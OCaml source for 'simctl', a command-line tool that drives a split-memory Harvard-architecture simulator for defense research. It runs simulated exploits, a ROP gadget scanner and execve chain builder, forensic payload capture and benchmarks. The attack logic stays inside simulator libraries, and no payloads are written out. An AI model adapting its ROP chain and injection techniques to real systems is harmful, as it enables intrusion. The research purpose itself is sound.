      & info [ "o"; "output" ] ~docv:"FILE"
          ~doc:"Also save the mid-run checkpoint to $(docv).")
  in
  let run metrics trace chrome (scenario : Snap.Scenario.t) fuel_to_checkpoint out =
    let obs = make_obs ~metrics ~trace ~chrome in
    let os = scenario.start ~obs () in
    let report, snap = Snap.Replay.check ~fuel_to_checkpoint os in
    Fmt.pr "%s: %a@." scenario.name Snap.Replay.pp report;
    Option.iter
      (fun file ->
        Option.iter
          (fun bytes -> Fmt.pr "checkpoint: %d bytes -> %s@." bytes file)
          (save_snapshot ~obs ~file snap))
      out;
    finish_obs obs ~metrics ~trace ~chrome;
    if not (Snap.Replay.ok report) then exit 1
  in
  Cmd.v
    (Cmd.info "replay"
       ~doc:
         "Determinism gate: checkpoint a scenario mid-run, finish it, restore the \
          checkpoint and re-run — exits non-zero unless the event log and cost \
          counters match bit-for-bit.")
    Term.(
      const run $ metrics_arg $ trace_arg $ chrome_arg $ scenario_arg
      $ fuel_arg ~default:1500
          ~doc:"Instructions to execute before the checkpoint is taken."
      $ snap_out_arg)

let hexdump ppf s =
  String.iteri
    (fun i c ->
      if i > 0 && i mod 16 = 0 then Fmt.pf ppf "@.";
      Fmt.pf ppf "%02x " (Char.code c))
    s

let diff_cmd =
  let dir_arg =
    Arg.(
      value
      & opt (some string) None
      & info [ "dir" ] ~docv:"DIR"
          ~doc:
            "Write capture artifacts (snapshot + manifest, payload.bin, diff.json) \
             under $(docv).")
  in
  let run (scenario : Snap.Scenario.t) dir =
    let os = scenario.start () in
    let captures = Snap.Forensics.arm ?dir os in
    ignore (Kernel.Os.run ~fuel:2_000_000 os : Kernel.Os.stop_reason);
    match !captures with
    | [] -> die "scenario %s triggered no injection detection" scenario.name
    | cs ->
      List.iter
        (fun (c : Snap.Forensics.capture) ->
          let t = c.c_trigger in
          Fmt.pr "detection: pid %d, eip 0x%08x, mode %s, cycle %d@." t.t_pid t.t_eip
            t.t_mode
            (Snap.Snapshot.cycle c.c_snapshot);
          let page_size = Snap.Snapshot.page_size c.c_snapshot in
          let page_base = t.t_eip land lnot (page_size - 1) in
          Option.iter
            (fun (d : Snap.Forensics.page_diff) ->
              Fmt.pr "page diff: vpn %d, code frame %d vs data frame %d, %d range(s)@."
                d.pd_vpn d.pd_code_frame d.pd_data_frame (List.length d.pd_ranges))
            c.c_diff;
          Fmt.pr "injected payload: %d bytes at 0x%08x@.%a@." (String.length c.c_payload)
            (page_base + c.c_payload_off)
            hexdump c.c_payload;
          Fmt.pr "--- disassembly ---@.%s@."
            (Isa.Disasm.to_string ~base:(page_base + c.c_payload_off) c.c_payload ~pos:0
               ~len:(String.length c.c_payload));
          Option.iter (fun d -> Fmt.pr "artifacts -> %s@." d) c.c_dir)
        cs
  in
  Cmd.v
    (Cmd.info "diff"
       ~doc:
         "Run an attack scenario with forensic capture armed; on detection, diff the \
          faulting page's code copy against its data copy and print the extracted \
          payload with its disassembly.")
    Term.(const run $ scenario_arg $ dir_arg)

(* inject command (lib/inject): campaign runner with the no-fault oracle *)

let inject_cmd =
  let seed_arg =
    Arg.(
      value & opt int 7
      & info [ "seed" ] ~docv:"N" ~doc:"Base injector seed for the campaign.")
  in
  let seeds_arg =
    Arg.(
      value & opt int 1
      & info [ "seeds" ] ~docv:"K"
          ~doc:"Run $(docv) consecutive seeds starting at $(b,--seed).")
  in
  let suite_arg =
    Arg.(
      value
      & opt (enum [ ("default", `Default); ("reuse", `Reuse); ("all", `All) ]) `Default
      & info [ "suite" ] ~docv:"SUITE"
          ~doc:
            "Plan suite: $(b,default) (benign + attack-break), $(b,reuse) (the \
             code-reuse defense x attack scenarios), or $(b,all).")
  in
  let run metrics trace chrome seed seeds suite jobs =
    if seeds < 1 then die "--seeds must be at least 1";
    let obs = make_obs ~metrics ~trace ~chrome in
    let plans_for seed =
      match suite with
      | `Default -> Inject.default_plans ~seed ()
      | `Reuse -> Inject.reuse_plans ~seed ()
      | `All -> Inject.default_plans ~seed () @ Inject.reuse_plans ~seed ()
    in
    let plans = List.concat_map (fun i -> plans_for (seed + i)) (List.init seeds Fun.id) in
    let verdicts = Inject.campaign ~obs ?jobs plans in
    print_string (Inject.summary_string verdicts);
    finish_obs obs ~metrics ~trace ~chrome;
    if Inject.escaped verdicts <> [] then die "campaign has escaped faults"
  in
  Cmd.v
    (Cmd.info "inject"
       ~doc:
         "Run the deterministic fault-injection campaign: every plan is paired \
          with a fault-free twin and compared bit-for-bit; exits non-zero if any \
          fault escapes (diverges without detection). The summary is identical \
          for every seed set at any $(b,-j).")
    Term.(
      const run $ metrics_arg $ trace_arg $ chrome_arg $ seed_arg $ seeds_arg
      $ suite_arg $ jobs_arg)

(* reuse command (lib/reuse): gadget scanner, chain builder, matrix *)

let reuse_cmd =
  let mode_arg =
    Arg.(
      required
      & pos 0
          (some
             (enum [ ("gadgets", `Gadgets); ("chain", `Chain); ("matrix", `Matrix) ]))
          None
      & info [] ~docv:"MODE"
          ~doc:
            "$(b,gadgets) lists every gadget the scanner finds in the victim's \
             text; $(b,chain) prints the execve ROP chain built from them; \
             $(b,matrix) runs the full defense x attack grid.")
  in
  let max_insns_arg =
    Arg.(
      value & opt int 4
      & info [ "max-insns" ] ~docv:"N"
          ~doc:"Longest gadget (instructions, terminator included) to index.")
  in
  let run jobs max_insns mode =
    if max_insns < 1 then die "--max-insns must be at least 1";
    let img = Reuse.Victim.image () in
    match mode with
    | `Gadgets ->
      let gs = Reuse.Gadget.scan_image ~max_insns img in
      List.iter (fun g -> Fmt.pr "%a@." Reuse.Gadget.pp g) gs;
      Fmt.pr "%d gadgets in %s (every byte offset of the shipped text)@."
        (List.length gs) img.Kernel.Image.name
    | `Chain ->
      let chain = Reuse.Campaign.chain_for img in
      Fmt.pr "%a" Reuse.Chain.pp chain;
      Fmt.pr "%d stack words, %d bytes on the wire, no 0x0a anywhere@."
        (List.length (Reuse.Chain.words chain))
        (String.length (Reuse.Chain.to_bytes chain))
    | `Matrix ->
      let cells = Reuse.Campaign.matrix ?jobs () in
      Reuse.Campaign.render Fmt.stdout cells;
      if not (Reuse.Campaign.check cells) then
        die "matrix deviates from the threat model (see ** cells)"
  in
  Cmd.v
    (Cmd.info "reuse"
       ~doc:
         "Code-reuse attacks (paper §7): scan the victim image for gadgets, build \
          the execve chain, or run the defense x attack matrix — injection stopped \
          by split memory, ROP/ret2libtext escaping it, both stopped by CFI. \
          $(b,matrix) exits non-zero on any cell the threat model does not \
          predict; its table is identical at any $(b,-j).")
    Term.(const run $ jobs_arg $ max_insns_arg $ mode_arg)

(* profile command (lib/prof): address-sampling profiler over a workload *)

(* The single-machine workloads only: the profiler instruments one
   machine's MMU, so the fleet axis here is "one job per requested
   workload", not unixbench's piece fan-out. *)
let profile_workloads =
  [
    ("apache32k", `Apache 32768);
    ("apache1k", `Apache 1024);
    ("gzip", `Gzip);
    ("nbench", `Nbench);
    ("ctxsw", `Ctxsw);
  ]

let profile_spec ~defense = function
  | `Apache size -> Workload.Figures.apache_spec ~defense ~size ~requests:25
  | `Gzip -> Workload.Figures.gzip_spec ~defense ~size:(48 * 1024)
  | `Nbench -> Workload.Harness.single ~defense (Workload.Guests.nbench ~iters:60 ())
  | `Ctxsw -> Workload.Figures.ctxsw_spec ~defense ~iters:250

let profile_workload_arg =
  (* carry the name alongside the tag so the report header can use it *)
  let wl = Arg.enum (List.map (fun (n, w) -> (n, (n, w))) profile_workloads) in
  Arg.(
    value & pos_all wl []
    & info [] ~docv:"WORKLOAD"
        ~doc:
          "Workloads to profile (default: apache32k). Any of: apache32k, apache1k, \
           gzip, nbench, ctxsw.")

let rate_arg =
  Arg.(
    value & opt int 64
    & info [ "rate" ] ~docv:"N"
        ~doc:"Sample every $(docv)-th successful address translation.")

let section_flag name doc = Arg.(value & flag & info [ name ] ~doc)

(* One rendered report per workload. Everything under the header is a
   pure function of the sample stream, so the bytes are identical for
   any -j and across a snapshot/replay boundary. *)
let render_profile_report ~sections name prof =
  let samples = Prof.samples prof in
  let buf = Buffer.create 4096 in
  Buffer.add_string buf (Fmt.str "=== %s ===\n" name);
  Buffer.add_string buf (Prof.Analysis.summary_line samples (Prof.sampler prof));
  List.iter
    (fun section ->
      Buffer.add_char buf '\n';
      Buffer.add_string buf
        (match section with
        | `Heatmap -> Prof.Analysis.render_heatmap samples
        | `Wset -> Prof.Analysis.render_working_set samples
        | `Persist -> Prof.Analysis.render_persistence samples
        | `Hot -> Prof.Analysis.render_hot samples
        | `Csv -> Prof.Analysis.csv_heatmap samples))
    sections;
  Buffer.contents buf

let profile_job ~defense ~rate ~sections (name, which) =
  let spec = profile_spec ~defense which in
  let prof = ref None in
  let _result, _os =
    Workload.Harness.run_k ~tune:(fun k -> prof := Some (Prof.attach ~rate k)) spec
  in
  render_profile_report ~sections name (Option.get !prof)

(* Replay gate for the profiler: checkpoint the profiled run mid-flight
   (sampler state rides in snapshot metadata), finish it, then restore
   onto a fresh machine, rearm the profiler and finish again — the two
   rendered reports must match byte-for-byte. *)
let profile_replay_job ~defense ~rate ~fuel_to_checkpoint ~sections (name, which) =
  let spec = profile_spec ~defense which in
  let os = Workload.Harness.build spec in
  let prof = Prof.attach ~rate os in
  ignore (Kernel.Os.run ~fuel:fuel_to_checkpoint os : Kernel.Os.stop_reason);
  let snap = Prof.checkpoint prof in
  ignore (Kernel.Os.run ~fuel:spec.Workload.Harness.fuel os : Kernel.Os.stop_reason);
  let reference = render_profile_report ~sections name prof in
  let os' = Workload.Harness.build spec in
  Snap.Snapshot.restore os' snap;
  match Prof.rearm os' snap with
  | None -> failwith "snapshot carries no profiler state"
  | Some prof' ->
    ignore (Kernel.Os.run ~fuel:spec.Workload.Harness.fuel os' : Kernel.Os.stop_reason);
    let replayed = render_profile_report ~sections name prof' in
    if not (String.equal reference replayed) then
      failwith "replayed profile diverges from the reference run";
    reference ^ "replay-check: ok\n"

let profile_cmd =
  let bench_flag =
    Arg.(
      value & flag
      & info [ "bench" ]
          ~doc:
            "Instead of per-workload reports, run the profile-driven policy \
             experiments: the TLB capacity x eviction sweep and the hot split-page \
             ranking.")
  in
  let replay_arg =
    Arg.(
      value & flag
      & info [ "replay-check" ]
          ~doc:
            "Checkpoint each profiled run mid-flight, restore it onto a fresh \
             machine and finish both; exit non-zero unless the rendered reports \
             match byte-for-byte.")
  in
  let run defense jobs rate heatmap wset persist hot csv bench replay fuel workloads =
    if rate < 1 then die "--rate must be at least 1";
    if bench then begin
      let rows = Prof.Experiments.tlb_sweep ?jobs ~rate ~defense () in
      print_string (Prof.Experiments.render_tlb_sweep rows);
      print_newline ();
      print_string (Prof.Experiments.hot_page_ranking ?jobs ~rate ~defense ())
    end
    else begin
      let sections =
        let chosen =
          List.filter_map
            (fun (on, s) -> if on then Some s else None)
            [
              (heatmap, `Heatmap); (wset, `Wset); (persist, `Persist); (hot, `Hot);
              (csv, `Csv);
            ]
        in
        (* default view: heatmap + working set *)
        if chosen = [] then [ `Heatmap; `Wset ] else chosen
      in
      let workloads =
        if workloads = [] then [ ("apache32k", `Apache 32768) ] else workloads
      in
      let job =
        if replay then
          profile_replay_job ~defense ~rate ~fuel_to_checkpoint:fuel ~sections
        else profile_job ~defense ~rate ~sections
      in
      let results = Fleet.map ?jobs ~label:fst job workloads in
      let failed = ref false in
      List.iter
        (function
          | Ok report -> print_string report
          | Error (e : Fleet.error) ->
            failed := true;
            Fmt.epr "simctl: profile %s failed: %s@." e.label e.reason)
        results;
      if !failed then exit 1
    end
  in
  Cmd.v
    (Cmd.info "profile"
       ~doc:
         "Attach the address-sampling profiler to a workload's MMU and render \
          working-set, persistence and heatmap reports from the sample stream. \
          Output is byte-identical for any $(b,-j) and across snapshot replay.")
    Term.(
      const run $ defense_arg $ jobs_arg $ rate_arg
      $ section_flag "heatmap" "Render the pid x vpn ASCII heatmap."
      $ section_flag "wset" "Render the working-set curve (unique pages per window)."
      $ section_flag "persist" "Render the page-persistence (residency) report."
      $ section_flag "hot" "Render the hot-page ranking."
      $ section_flag "csv" "Emit the heatmap as CSV."
      $ bench_flag $ replay_arg
      $ fuel_arg ~default:60_000
          ~doc:"Instructions before the --replay-check checkpoint is taken."
      $ profile_workload_arg)

(* serve command (lib/serve): traffic-at-scale knee analysis *)

let serve_cmd =
  let sweep_flag =
    Arg.(
      value & flag
      & info [ "sweep" ]
          ~doc:
            "Run the full sweep: all five protection modes, concurrency 1..32, \
             16 requests per client, 3 knee repetitions. Default is a quick \
             two-defense sweep up to concurrency 8.")
  in
  let knee_flag =
    Arg.(
      value & flag
      & info [ "knee" ]
          ~doc:"Print only the knee table (skip the throughput-vs-concurrency curves).")
  in
  let run metrics trace chrome jobs sweep knee =
    let obs = make_obs ~metrics ~trace ~chrome in
    let t =
      if sweep then
        Serve.Sweep.run ~obs ?jobs ~concurrencies:[ 1; 2; 4; 8; 16; 32 ] ~reps:3
          ~requests:16 ()
      else
        Serve.Sweep.run ~obs ?jobs
          ~defenses:[ Defense.unprotected; Defense.split_standalone ]
          ~concurrencies:[ 1; 2; 4; 8 ] ~reps:2 ~requests:8 ()
    in
    print_string (Serve.Sweep.render ~knee_only:knee t);
    finish_obs obs ~metrics ~trace ~chrome;
    if t.Serve.Sweep.failures <> [] then die "serving sweep had failed machines"
  in
  Cmd.v
    (Cmd.info "serve"
       ~doc:
         "Traffic at scale: closed-loop client/server pairs over Zipf-popular \
          pages, swept across concurrency per protection mode. Reports each \
          defense's throughput knee (lowest concurrency within 97% of its \
          peak) with latency percentiles; the tables are byte-identical for \
          any $(b,-j).")
    Term.(
      const run $ metrics_arg $ trace_arg $ chrome_arg $ jobs_arg $ sweep_flag
      $ knee_flag)

(* spawn / ps commands: the scale-out path (loader COW, indexed wakeups)
   driven interactively *)

(* Resident frames from this process's view: one per mapped pte, two when
   the page is split (code + data copies). Shared COW frames are counted
   at every holder, so the column sums to more than the machine's peak
   when sharing is on — peak_in_use is the machine-wide truth. *)
let proc_frames (p : Kernel.Proc.t) =
  let n = ref 0 in
  Kernel.Aspace.iter_ptes p.aspace (fun pte ->
      n := !n + (match pte.split with Some _ -> 2 | None -> 1));
  !n

let ps_table (k : Kernel.Os.t) =
  let m = Kernel.Os.machine k in
  print_string
    (Report.table ~title:"processes"
       ~header:[ "pid"; "name"; "state"; "frames"; "insns" ]
       (List.map
          (fun (p : Kernel.Proc.t) ->
            [
              string_of_int p.pid;
              p.name;
              Fmt.str "%a" Kernel.Proc.pp_state p.state;
              string_of_int (proc_frames p);
              string_of_int p.p_insns;
            ])
          (Kernel.Machine.procs m)))

let spawn_cmd =
  let copies_arg =
    Arg.(
      value & opt int 100
      & info [ "copies" ] ~docv:"N" ~doc:"Identical guests to spawn.")
  in
  let share_arg =
    Arg.(
      value & flag
      & info [ "share-images" ]
          ~doc:
            "Loader COW: back every copy's read-only image pages with the same \
             physical frames (copied privately on first write).")
  in
  let frames_arg =
    Arg.(
      value & opt int 32768
      & info [ "frames" ] ~docv:"N" ~doc:"Physical frames on the machine.")
  in
  let ps_flag =
    Arg.(
      value & flag & info [ "ps" ] ~doc:"Print the process table after the run.")
  in
  let run metrics trace chrome defense copies share frames ps fuel =
    if copies < 1 then die "--copies must be at least 1, got %d" copies;
    let obs = make_obs ~metrics ~trace ~chrome in
    let k =
      Kernel.Os.create ~obs ~frames ~tlb_fill:(Defense.tlb_fill defense)
        ~share_images:share
        ~protection:(Defense.to_protection defense) ()
    in
    let img = Workload.Guests.scale_unit ~rounds:2 () in
    for _ = 1 to copies do
      ignore (Kernel.Os.spawn k img : Kernel.Proc.t)
    done;
    let stop = Kernel.Os.run ~fuel k in
    Fmt.pr "spawned %d x %s under %s%s: %s@." copies img.Kernel.Image.name
      (Defense.name defense)
      (if share then " (shared images)" else "")
      (stop_name stop);
    Fmt.pr "peak frames in use: %d@."
      (Kernel.Frame_alloc.peak_in_use (Kernel.Os.alloc k));
    show_machine k;
    if ps then ps_table k;
    finish_obs obs ~metrics ~trace ~chrome
  in
  Cmd.v
    (Cmd.info "spawn"
       ~doc:
         "Spawn N identical guests on one machine and run them to completion — \
          the 10k-process scale-out path ($(b,--copies 10000 --share-images)). \
          Spawn cost is O(1) in image size (memoized verification) and, with \
          $(b,--share-images), the copies share their read-only image frames.")
    Term.(
      const run $ metrics_arg $ trace_arg $ chrome_arg $ defense_arg $ copies_arg
      $ share_arg $ frames_arg $ ps_flag
      $ fuel_arg ~default:200_000_000 ~doc:"Instruction budget for the run.")

let ps_cmd =
  let file_arg =
    Arg.(
      required
      & pos 0 (some file) None
      & info [] ~docv:"FILE" ~doc:"Snapshot file written by $(b,simctl snapshot).")
  in
  let run file =
    let snap = load_snapshot file in
    match
      Option.bind (Snap.Snapshot.find_meta snap "scenario") Snap.Scenario.find
    with
    | None ->
      die "snapshot %s names no known scenario (meta: %a)" file
        Fmt.(list ~sep:comma (pair ~sep:(any "=") string string))
        (Snap.Snapshot.meta snap)
    | Some scenario ->
      let os = scenario.start () in
      Snap.Snapshot.restore os snap;
      Fmt.pr "%s (scenario %s) at cycle %d@." file scenario.name
        (Snap.Snapshot.cycle snap);
      ps_table os
  in
  Cmd.v
    (Cmd.info "ps"
       ~doc:
         "Load a snapshot and print its process table, pid-sorted: state, \
          resident frames (split pages count their code and data copies), \
          retired instructions. Does not resume execution.")
    Term.(const run $ file_arg)

let main =
  Cmd.group
    (Cmd.info "simctl" ~version:"1.0.0"
       ~doc:"Split-memory virtual Harvard architecture simulator control tool.")
    [
      attack_cmd;
      grid_cmd;
      workload_cmd;
      stats_cmd;
      disasm_cmd;
      layout_cmd;
      snapshot_cmd;
      restore_cmd;
      replay_cmd;
      diff_cmd;
      inject_cmd;
      reuse_cmd;
      profile_cmd;
      serve_cmd;
      spawn_cmd;
      ps_cmd;
    ]

(* --no-bbcache is global and position-independent: it must take effect
   before any machine is built, across every subcommand, so it is stripped
   here rather than threaded through each command's term. *)
let () =
  let argv =
    Array.of_list
      (List.filter
         (fun a ->
           if a = "--no-bbcache" then begin
             Kernel.Machine.bbcache_default := false;
             false
           end
           else true)
         (Array.to_list Sys.argv))
  in
  exit (Cmd.eval ~argv main)
