(* simctl — drive the split-memory simulator from the command line:
   run attacks under a chosen defense and response mode, inspect logs,
   and run individual workloads. *)

open Cmdliner

let defense_conv =
  let parse = function
    | "none" | "unprotected" -> Ok Defense.unprotected
    | "nx" -> Ok Defense.nx
    | "split" -> Ok Defense.split_standalone
    | "split+nx" -> Ok Defense.split_mixed_plus_nx
    | "soft-tlb" -> Ok Defense.split_soft_tlb
    | "dual-cr3" -> Ok Defense.split_dual_cr3
    | s -> (
      match int_of_string_opt (Filename.chop_suffix_opt ~suffix:"%" s |> Option.value ~default:"") with
      | Some pct when pct >= 0 && pct <= 100 -> Ok (Defense.split_fraction pct)
      | _ -> Error (`Msg (Fmt.str "unknown defense %S (none|nx|split|split+nx|<pct>%%)" s)))
  in
  Arg.conv (parse, fun ppf d -> Fmt.string ppf (Defense.name d))

let defense_arg =
  Arg.(
    value
    & opt defense_conv Defense.split_standalone
    & info [ "d"; "defense" ] ~docv:"DEFENSE"
        ~doc:"Protection: none, nx, split, split+nx, soft-tlb, dual-cr3, or N% (fraction split + nx).")

let response_conv =
  let parse = function
    | "break" -> Ok Split_memory.Response.Break
    | "observe" -> Ok (Split_memory.Response.Observe { sebek = true })
    | "forensics" -> Ok (Split_memory.Response.Forensics { payload = None })
    | "forensics-exit" ->
      Ok (Split_memory.Response.Forensics { payload = Some Attack.Shellcode.exit0 })
    | s -> Error (`Msg (Fmt.str "unknown response %S" s))
  in
  Arg.conv (parse, fun ppf r -> Fmt.string ppf (Split_memory.Response.name r))

let response_arg =
  Arg.(
    value
    & opt (some response_conv) None
    & info [ "r"; "response" ] ~docv:"MODE"
        ~doc:"Response mode: break, observe, forensics, forensics-exit (forces split defense).")

let apply_response defense = function
  | None -> defense
  | Some response -> Defense.split_with ~response ()

let show_outcome_and_log outcome (k : Kernel.Os.t) =
  Fmt.pr "outcome: %s@." (Attack.Runner.outcome_name outcome);
  Fmt.pr "--- kernel log ---@.%a@." Kernel.Event_log.pp (Kernel.Os.log k)

(* observability plumbing *)

let metrics_arg =
  Arg.(
    value & flag
    & info [ "metrics" ]
        ~doc:"Print the metrics snapshot (counters, gauges, histograms) after the run.")

let trace_arg =
  Arg.(
    value
    & opt (some string) None
    & info [ "trace" ] ~docv:"FILE"
        ~doc:"Write the cycle-stamped event trace to $(docv) as JSON Lines.")

let chrome_arg =
  Arg.(
    value
    & opt (some string) None
    & info [ "chrome-trace" ] ~docv:"FILE"
        ~doc:
          "Write the trace as a Chrome trace_event document (load it in \
           about://tracing or Perfetto).")

let make_obs ~metrics ~trace ~chrome =
  if metrics || trace <> None || chrome <> None then Obs.create () else Obs.null

let render_metrics reg =
  let counters = Obs.Metrics.counters reg in
  if counters <> [] then
    print_string
      (Report.table ~title:"counters" ~header:[ "counter"; "count" ]
         (List.map (fun (n, c) -> [ n; string_of_int c ]) counters));
  let gauges = Obs.Metrics.gauges reg in
  if gauges <> [] then
    print_string
      (Report.table ~title:"gauges" ~header:[ "gauge"; "value" ]
         (List.map (fun (n, v) -> [ n; Fmt.str "%.2f" v ]) gauges));
  List.iter
    (fun (h : Obs.Metrics.histogram) ->
      if h.n > 0 then
        print_string
          (Report.dist
             ~title:
               (Fmt.str "%s (n=%d mean=%.1f min=%d max=%d)" h.h_name h.n
                  (Obs.Metrics.mean h) h.vmin h.vmax)
             (List.map
                (fun (lo, hi, c) -> (Fmt.str "%d..%d" lo hi, c))
                (Obs.Metrics.nonzero_buckets h))))
    (Obs.Metrics.histograms reg);
  List.iter
    (fun (name, cells) ->
      let top = List.filteri (fun i _ -> i < 10) cells in
      if top <> [] then print_string (Report.dist ~title:(name ^ " (top 10)") top))
    (Obs.Metrics.labeled_sets reg)

let finish_obs obs ~metrics ~trace ~chrome =
  if Obs.enabled obs then begin
    if metrics then render_metrics (Obs.snapshot obs);
    let write what f emit =
      try emit f
      with Sys_error msg -> Fmt.epr "simctl: cannot write %s: %s@." what msg
    in
    Option.iter
      (fun f ->
        write "trace" f (fun f ->
            Obs.write_trace obs f;
            Fmt.pr "trace: %d events -> %s@." (List.length (Obs.events obs)) f))
      trace;
    Option.iter
      (fun f ->
        write "chrome trace" f (fun f ->
            Obs.write_chrome_trace obs f;
            Fmt.pr "chrome trace -> %s@." f))
      chrome
  end

(* The machine's own counters, printed after every attack/workload run. *)
let show_machine (k : Kernel.Os.t) =
  let mmu = Kernel.Os.mmu k in
  Fmt.pr "%a@." Hw.Cost.pp (Kernel.Os.cost k);
  Fmt.pr "%a@." Hw.Tlb.pp_stats (Hw.Mmu.itlb mmu);
  Fmt.pr "%a@." Hw.Tlb.pp_stats (Hw.Mmu.dtlb mmu)

(* attack command *)

let attack_names =
  [
    ("apache", `Real Attack.Realworld.Apache_ssl);
    ("bind", `Real Attack.Realworld.Bind);
    ("proftpd", `Real Attack.Realworld.Proftpd);
    ("samba", `Real Attack.Realworld.Samba);
    ("wuftpd", `Real Attack.Realworld.Wuftpd);
    ("nx-bypass", `Nx_bypass);
    ("mixed-page", `Mixed);
  ]

let attack_arg =
  Arg.(
    required
    & pos 0 (some (enum attack_names)) None
    & info [] ~docv:"ATTACK"
        ~doc:"One of: apache, bind, proftpd, samba, wuftpd, nx-bypass, mixed-page.")

let attack_cmd =
  let run defense response metrics trace chrome which =
    let defense = apply_response defense response in
    let obs = make_obs ~metrics ~trace ~chrome in
    (match which with
    | `Real Attack.Realworld.Wuftpd ->
      let o, s = Attack.Realworld.run_wuftpd ~defense ~obs () in
      show_outcome_and_log o s.k;
      show_machine s.k
    | `Real id ->
      let o, s = Attack.Realworld.run_session ~defense ~obs id in
      Fmt.pr "outcome: %s@." (Attack.Runner.outcome_name o);
      Option.iter (fun (s : Attack.Runner.session) -> show_machine s.k) s
    | `Nx_bypass ->
      let o, s = Attack.Bypass.run_nx_bypass_session ~defense ~obs () in
      Fmt.pr "outcome: %s@." (Attack.Runner.outcome_name o);
      show_machine s.k
    | `Mixed ->
      let o, s = Attack.Bypass.run_mixed_page_session ~defense ~obs () in
      Fmt.pr "outcome: %s@." (Attack.Runner.outcome_name o);
      show_machine s.k);
    finish_obs obs ~metrics ~trace ~chrome
  in
  Cmd.v
    (Cmd.info "attack" ~doc:"Run a real-world attack simulation under a defense.")
    Term.(
      const run $ defense_arg $ response_arg $ metrics_arg $ trace_arg $ chrome_arg
      $ attack_arg)

(* grid command *)

let grid_cmd =
  let run defense =
    List.iter
      (fun t ->
        List.iter
          (fun l ->
            let o = Attack.Wilander.run ~defense t l in
            Fmt.pr "%-34s %-6s %s@."
              (Attack.Wilander.technique_name t)
              (Attack.Wilander.location_name l)
              (Attack.Runner.outcome_name o))
          Attack.Wilander.locations)
      Attack.Wilander.techniques
  in
  Cmd.v
    (Cmd.info "grid" ~doc:"Run the 9x4 Wilander-style attack grid under a defense.")
    Term.(const run $ defense_arg)

(* workload command *)

let workload_names =
  [
    ("apache32k", `Apache 32768);
    ("apache1k", `Apache 1024);
    ("gzip", `Gzip);
    ("nbench", `Nbench);
    ("ctxsw", `Ctxsw);
    ("unixbench", `Unixbench);
  ]

let workload_arg =
  Arg.(
    required
    & pos 0 (some (enum workload_names)) None
    & info [] ~docv:"WORKLOAD"
        ~doc:"One of: apache32k, apache1k, gzip, nbench, ctxsw, unixbench.")

(* Shared by the workload and stats commands: run one workload with the
   kernel in hand so the machine counters (cost, TLBs) can be printed. *)
let exec_workload ~obs ~defense which =
  let show ((r : Workload.Harness.result), k) =
    Fmt.pr
      "%s under %s: %d cycles, %d insns, %d traps, %d split faults, %d ctx switches@."
      r.label r.defense r.cycles r.insns r.traps r.split_faults r.ctx_switches;
    show_machine k
  in
  match which with
  | `Apache size ->
    show
      (Workload.Harness.run_pair_k ~obs ~defense
         (Workload.Guests.apache_server ~size ())
         (Workload.Guests.apache_client ~size ~requests:25 ()))
  | `Gzip ->
    let size = 48 * 1024 in
    show
      (Workload.Harness.run_pair_k ~obs ~defense ~capacity:4096
         (Workload.Guests.gzip_disk ~size ~block:4096 ())
         (Workload.Guests.gzip ~size ()))
  | `Nbench ->
    show
      (Workload.Harness.run_single_k ~obs ~defense (Workload.Guests.nbench ~iters:60 ()))
  | `Ctxsw ->
    show
      (Workload.Harness.run_pair_k ~obs ~defense
         (Workload.Guests.ctxsw_ping ~iters:250 ())
         (Workload.Guests.ctxsw_pong ()))
  | `Unixbench ->
    List.iter
      (fun (name, v) -> Fmt.pr "%-20s %.3f@." name v)
      (Workload.Figures.unixbench_pieces ~defense)

let workload_cmd =
  let run defense metrics trace chrome which =
    let obs = make_obs ~metrics ~trace ~chrome in
    exec_workload ~obs ~defense which;
    finish_obs obs ~metrics ~trace ~chrome
  in
  Cmd.v
    (Cmd.info "workload" ~doc:"Run a benchmark workload under a defense and print counters.")
    Term.(const run $ defense_arg $ metrics_arg $ trace_arg $ chrome_arg $ workload_arg)

(* stats command: the workload run with the full observability readout *)

let stats_cmd =
  let run defense trace chrome which =
    let obs = Obs.create () in
    exec_workload ~obs ~defense which;
    finish_obs obs ~metrics:true ~trace ~chrome
  in
  Cmd.v
    (Cmd.info "stats"
       ~doc:
         "Run a workload with observability on and render the full metrics snapshot \
          (counters, gauges, latency histograms, per-page/per-pid tallies).")
    Term.(const run $ defense_arg $ trace_arg $ chrome_arg $ workload_arg)

(* disasm / layout commands *)

let image_names =
  [
    ("apache", fun () -> Attack.Realworld.victim Attack.Realworld.Apache_ssl);
    ("bind", fun () -> Attack.Realworld.victim Attack.Realworld.Bind);
    ("proftpd", fun () -> Attack.Realworld.victim Attack.Realworld.Proftpd);
    ("samba", fun () -> Attack.Realworld.victim Attack.Realworld.Samba);
    ("wuftpd", fun () -> Attack.Realworld.victim Attack.Realworld.Wuftpd);
    ("plugin-host", Attack.Bypass.plugin_host);
    ("javavm", Attack.Bypass.jit_victim);
    ("bank", Attack.Limitations.bank_victim);
    ("launcher", Attack.Limitations.launcher_victim);
    ("smc", Attack.Limitations.smc_victim);
  ]

let image_arg =
  Arg.(
    required
    & pos 0 (some (enum image_names)) None
    & info [] ~docv:"IMAGE"
        ~doc:
          "One of: apache, bind, proftpd, samba, wuftpd, plugin-host, javavm, bank, \
           launcher, smc.")

let disasm_cmd =
  let run mk =
    let image = mk () in
    List.iter
      (fun (seg : Kernel.Image.segment) ->
        match seg.kind with
        | Kernel.Image.Code | Kernel.Image.Lib | Kernel.Image.Mixed ->
          Fmt.pr "; segment %s at 0x%08x (%d bytes)@." (Kernel.Image.seg_kind_name seg.kind)
            seg.base (String.length seg.bytes);
          Fmt.pr "%s@.@."
            (Isa.Disasm.to_string ~base:seg.base seg.bytes ~pos:0
               ~len:(String.length seg.bytes))
        | Kernel.Image.Rodata | Kernel.Image.Data -> ())
      image.Kernel.Image.segments
  in
  Cmd.v
    (Cmd.info "disasm" ~doc:"Disassemble a victim image's code segments.")
    Term.(const run $ image_arg)

let layout_cmd =
  let run mk =
    let image = mk () in
    Fmt.pr "image %s, entry 0x%08x, bss %d bytes, signature %x@."
      image.Kernel.Image.name image.entry image.bss_size image.signature;
    List.iter
      (fun (seg : Kernel.Image.segment) ->
        Fmt.pr "  %-7s 0x%08x..0x%08x %s@."
          (Kernel.Image.seg_kind_name seg.kind)
          seg.base
          (seg.base + String.length seg.bytes)
          (if seg.writable then "rw" else "ro"))
      image.segments;
    let labels =
      Hashtbl.fold (fun l a acc -> (a, l) :: acc) image.labels [] |> List.sort compare
    in
    List.iter (fun (a, l) -> Fmt.pr "  %-24s 0x%08x@." l a) labels
  in
  Cmd.v
    (Cmd.info "layout" ~doc:"Print a victim image's segments and labels.")
    Term.(const run $ image_arg)

let main =
  Cmd.group
